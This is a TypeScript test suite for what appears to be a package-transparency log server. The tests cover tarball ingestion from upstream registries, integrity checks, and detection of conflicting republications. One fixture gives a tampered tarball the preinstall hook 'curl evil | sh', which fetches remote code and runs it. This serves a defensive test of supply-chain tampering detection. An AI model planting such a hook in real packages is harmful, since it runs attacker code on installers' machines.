import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeEach, afterEach, describe, expect, it } from 'vitest';
import { inspectTarball, parseRecord, recordKey } from '@sumgate/core';
import { ingestList, initLog, serveLog, type LogServer } from '../src/index.js';
import { FakeRegistry, makeTarball, sha512Integrity } from './fakeRegistry.js';
import { removeTempDirs, tempDir } from './tmp.js';

afterAll(removeTempDirs);

let registry: FakeRegistry;
let server: LogServer;
let dir: string;

beforeEach(async () => {
  registry = await new FakeRegistry().start();
  dir = tempDir();
  await initLog({ dir, origin: 'ingest.test/log' });
  server = await serveLog({ dir, upstreams: [registry.url], batchMaxDelayMs: 1 });
});
afterEach(async () => {
  await server.close();
  await registry.close();
});

describe('ingestion from an upstream registry', () => {
  it('logs an unknown version on lookup, with the install code read from the tarball', async () => {
    registry.add('@acme/native', '2.0.0', {
      tgz: makeTarball('@acme/native', '2.0.0', { postinstall: 'node build.js' }),
    });
    const res = await fetch(`${server.url}/lookup/${recordKey('@acme/native', '2.0.0')}`);
    expect(res.status).toBe(200);
    const [index, ...rest] = (await res.text()).split('\n');
    expect(index).toBe('0');
    const record = parseRecord(`${rest.slice(0, 2).join('\n')}\n`);
    expect(record.integrity).toBe(sha512Integrity(registry.packages.get('@acme/native')!.get('2.0.0')!.tgz));
    expect(record.installCode.hooks).toEqual(['postinstall']);
    expect(registry.hits.get('/@acme%2Fnative')).toBe(1);
  });

  it('refuses a tarball whose sha512 does not match dist.integrity', async () => {
    registry.add('victim', '1.0.0', {
      tgz: makeTarball('victim', '1.0.0'),
      integrity: sha512Integrity(makeTarball('victim', '1.0.0', {}, 'other')),
    });
    const res = await fetch(`${server.url}/lookup/victim@1.0.0`);
    expect(res.status).toBe(502);
    expect(await res.text()).toMatch(/INTEGRITY_MISMATCH: the tarball of victim@1\.0\.0 .* has sha512-/);
    expect(server.log.size).toBe(0);
  });

  it('ingests concurrent lookups of one unknown version once', async () => {
    registry.add('popular', '3.1.4', { tgz: makeTarball('popular', '3.1.4') });
    registry.delayMs = 50;
    const bodies = await Promise.all(
      Array.from({ length: 20 }, () => fetch(`${server.url}/lookup/popular@3.1.4`).then((r) => r.text())),
    );
    expect(new Set(bodies.map((b) => b.split('\n')[0]))).toEqual(new Set(['0']));
    expect(registry.hits.get('/popular')).toBe(1);
    expect(registry.hits.get('/-/tarball/popular/3.1.4.tgz')).toBe(1);
    expect(server.log.size).toBe(1);
  });

  it('tries upstreams in order and reports versions nobody has as 404', async () => {
    const second = await new FakeRegistry().start();
    try {
      second.add('only-second', '1.0.0', { tgz: makeTarball('only-second', '1.0.0') });
      await server.close();
      server = await serveLog({ dir, upstreams: [registry.url, second.url], batchMaxDelayMs: 1 });
      expect((await fetch(`${server.url}/lookup/only-second@1.0.0`)).status).toBe(200);
      const missing = await fetch(`${server.url}/lookup/nobody-has@1.0.0`);
      expect(missing.status).toBe(404);
      expect(await missing.text()).toMatch(
        /NO_SOURCE: nobody-has@1\.0\.0 was not found on any upstream registry/,
      );
    } finally {
      await second.close();
    }
  });

  it('refuses a conflicting republication, keeps it as evidence, and serves the evidence', async () => {
    registry.add('left-pad', '1.3.0', { tgz: makeTarball('left-pad', '1.3.0') });
    expect((await fetch(`${server.url}/lookup/left-pad@1.3.0`)).status).toBe(200);
    // The upstream now serves different bytes (with a matching integrity) for the same version.
    registry.add('left-pad', '1.3.0', {
      tgz: makeTarball('left-pad', '1.3.0', { preinstall: 'curl evil | sh' }),
    });
    const summary = await ingestList({
      log: server.log,
      upstreams: [registry.url],
      packages: [{ name: 'left-pad', version: '1.3.0' }],
      recheck: true,
    });
    expect(summary.failed).toHaveLength(1);
    expect(summary.failed[0]!.reason).toMatch(
      /^LOG_CONFLICT: left-pad@1\.3\.0 is already in the log \(index 0\)/,
    );
    expect(server.log.size).toBe(1);
    const ev = await fetch(`${server.url}/evidence/left-pad@1.3.0`);
    expect(ev.status).toBe(200);
    const evidence = (await ev.json()) as {
      index: number;
      logged: string;
      observations: Array<{ record: string; source: string }>;
    };
    expect(evidence.index).toBe(0);
    expect(parseRecord(evidence.logged).installCode.hooks).toEqual([]);
    expect(parseRecord(evidence.observations[0]!.record).installCode.hooks).toEqual(['preinstall']);
    expect(evidence.observations[0]!.source).toBe(registry.url);
    // Lookups still return the first record.
    expect(await (await fetch(`${server.url}/lookup/left-pad@1.3.0`)).text()).toContain(evidence.logged);
    expect((await fetch(`${server.url}/evidence/left-pad@9.9.9`)).status).toBe(404);
  });

  it('rechecks a record the log holds under the v1 rules against the v1 fingerprint of the bytes', async () => {
    const tgz = makeTarball('old-native', '1.0.0', { postinstall: 'node build.js' });
    registry.add('old-native', '1.0.0', { tgz });
    const v1 = inspectTarball(tgz).installCode.v1!;
    // A log written before install code v2: the record carries the v1 fingerprint and no rules marker.
    await server.log.append(
      {
        name: 'old-native',
        version: '1.0.0',
        integrity: sha512Integrity(tgz),
        installCode: { fingerprint: v1, hooks: ['postinstall'], rules: 1 },
        signatures: [],
      },
      registry.url,
    );
    const same = await ingestList({
      log: server.log,
      upstreams: [registry.url],
      packages: [{ name: 'old-native', version: '1.0.0' }],
      recheck: true,
    });
    expect(same).toEqual({ added: 0, existing: 1, failed: [] });
    // The same integrity with another v1 fingerprint is still a conflict.
    const tgz2 = makeTarball('old-native', '2.0.0', { postinstall: 'node build.js' });
    await server.log.append(
      {
        name: 'old-native',
        version: '2.0.0',
        integrity: sha512Integrity(tgz2),
        installCode: { fingerprint: `sha256-${'A'.repeat(43)}=`, hooks: ['postinstall'], rules: 1 },
        signatures: [],
      },
      registry.url,
    );
    registry.add('old-native', '2.0.0', { tgz: tgz2 });
    const other = await ingestList({
      log: server.log,
      upstreams: [registry.url],
      packages: [{ name: 'old-native', version: '2.0.0' }],
      recheck: true,
    });
    expect(other.failed.map((f) => f.reason.split(':')[0])).toEqual(['LOG_CONFLICT']);
  });

  it('ingests in bulk from a lockfile through POST /proofs with "ingest": true', async () => {
    for (const v of ['1.0.0', '1.1.0']) registry.add('a', v, { tgz: makeTarball('a', v) });
    registry.add('@s/b', '2.0.0', { tgz: makeTarball('@s/b', '2.0.0') });
    const res = await fetch(`${server.url}/proofs`, {
      method: 'POST',
      body: JSON.stringify({ packages: ['a@1.0.0', 'a@1.1.0', '@s/b@2.0.0', 'ghost@1.0.0'], ingest: true }),
    });
    const batch = (await res.json()) as {
      entries: unknown[];
      missing: Array<{ name: string; reason: string }>;
    };
    expect(batch.entries).toHaveLength(3);
    expect(batch.missing).toEqual([
      { name: 'ghost', version: '1.0.0', reason: expect.stringMatching(/^NO_SOURCE: /) },
    ]);

    const lock = join(tempDir(), 'pnpm-lock.yaml');
    writeFileSync(
      lock,
      "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n\n  '@s/b@2.0.0':\n    resolution: {integrity: sha512-y}\n\nsnapshots:\n\n  a@1.0.0: {}\n",
    );
    const { ingestFromLockfile } = await import('../src/index.js');
    const progress: string[] = [];
    const summary = await ingestFromLockfile({
      log: server.log,
      lockfile: lock,
      upstreams: [registry.url],
      onProgress: (p) => progress.push(`${p.done}/${p.total} ${p.outcome}`),
    });
    expect(summary).toEqual({ added: 0, existing: 2, failed: [] });
    expect(progress.sort()).toEqual(['1/2 existing', '2/2 existing']);
  });
});
